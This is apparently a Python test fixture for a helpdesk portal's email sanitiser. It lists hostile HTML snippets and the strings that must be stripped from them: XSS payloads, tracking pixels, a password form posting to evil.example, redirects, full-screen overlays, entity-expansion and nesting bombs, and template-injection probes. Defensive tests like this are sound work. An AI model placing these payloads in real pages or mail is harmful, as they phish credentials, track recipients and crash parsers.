# Copyright 2026 Helpdesk Service Portal contributors
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""HTML that wants to run, to watch, to cover or to exhaust."""

from .builder import Case, mail

HTML = "text/html; charset=utf-8"


def page(name, source, *lacks, says=None):
    body = f"<p>WiFi {name}</p>{source}"
    return Case(name, mail(name, body, HTML), says=says, lacks=lacks)


MAILS = [
    page("script", "<script>alert(1)</script><p onclick='alert(2)'>a</p>", "alert"),
    page("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script"),
    page("on-error", "<img src=x onerror=alert(1)>", "onerror"),
    page(
        "svg",
        "<svg/onload=alert(1)><math><mtext><style><img src=x onerror=alert(2)>",
        "onload=",
        "onerror=",
    ),
    page(
        "script-link",
        '<a href="java&#115;cript:alert(1)">a</a>'
        '<a href="data:text/html,x">b</a><a href=" vbscript:x">c</a>',
        'href="java',
        'href="data:',
        "vbscript:",
    ),
    page(
        "style-sheet",
        "<style>body{display:none}</style>"
        "<link rel=stylesheet href='https://evil.example/a.css'>",
        "display:none}",
        "a.css",
    ),
    page(
        "cover",
        '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;'
        'z-index:99999;background:url(https://evil.example/a.png)">x</div>',
        "position",
        "100vh",
        "z-index",
        "evil.example",
    ),
    page(
        "cover-by-margin",
        '<div style="margin-top:-4000px;min-height:9000px">x</div>',
        "-4000px",
        "9000px",
    ),
    page(
        "cover-by-class",
        '<div class="modal show fixed-top w-100 vh-100">x</div>',
        "fixed-top",
    ),
    page(
        "invisible", '<div style="opacity:0;filter:alpha(opacity=0)">x</div>', "opacity"
    ),
    page(
        "pixel",
        '<img src="https://evil.example/p.gif?id=1" width="1" height="1">',
        "evil.example",
    ),
    page(
        "pixel-hidden",
        '<img src="https://evil.example/p.gif" style="display:none">',
        "evil.example",
    ),
    page(
        "pixel-table",
        '<table background="https://evil.example/p.gif"><tr><td>a',
        "evil.example",
    ),
    page(
        "meta",
        '<meta http-equiv=refresh content="0;url=https://evil.example">'
        '<base href="https://evil.example/">',
        "evil.example",
    ),
    page(
        "frames",
        '<iframe src="https://evil.example"></iframe><object data="x.swf">'
        '</object><embed src="x.swf">',
        "<iframe",
        "<object",
        "<embed",
    ),
    page(
        "form",
        '<form action="https://evil.example"><input name=p type=password>'
        "<button>Enviar</button></form>",
        "<form",
        "<input",
        "evil.example",
    ),
    page(
        "conditional", "<!--[if mso]><script>alert(1)</script><![endif]-->", "alert(1)"
    ),
    page(
        "entities",
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>&b;&b;',
    ),
    page("unclosed", "<table><tr><td><b><i><div><p" + "<b" * 200),
    page("nested", "<div>" * 5_000 + "fondo", says=("nested", "fondo")),
    page("nested-tables", "<table><tr><td>" * 2_000 + "fondo", says=("fondo",)),
    page("huge", "<p>palabra</p>" * 150_000),
    page("huge-attribute", f'<p title="{"x" * 900_000}">a</p>'),
    page("null-in-tags", "<scr\0ipt>alert(1)</scr\0ipt>", "<script"),
    page("template-words", "{{ 7*7 }} <t t-out='env.cr'/> ${7*7}", "t-out"),
]
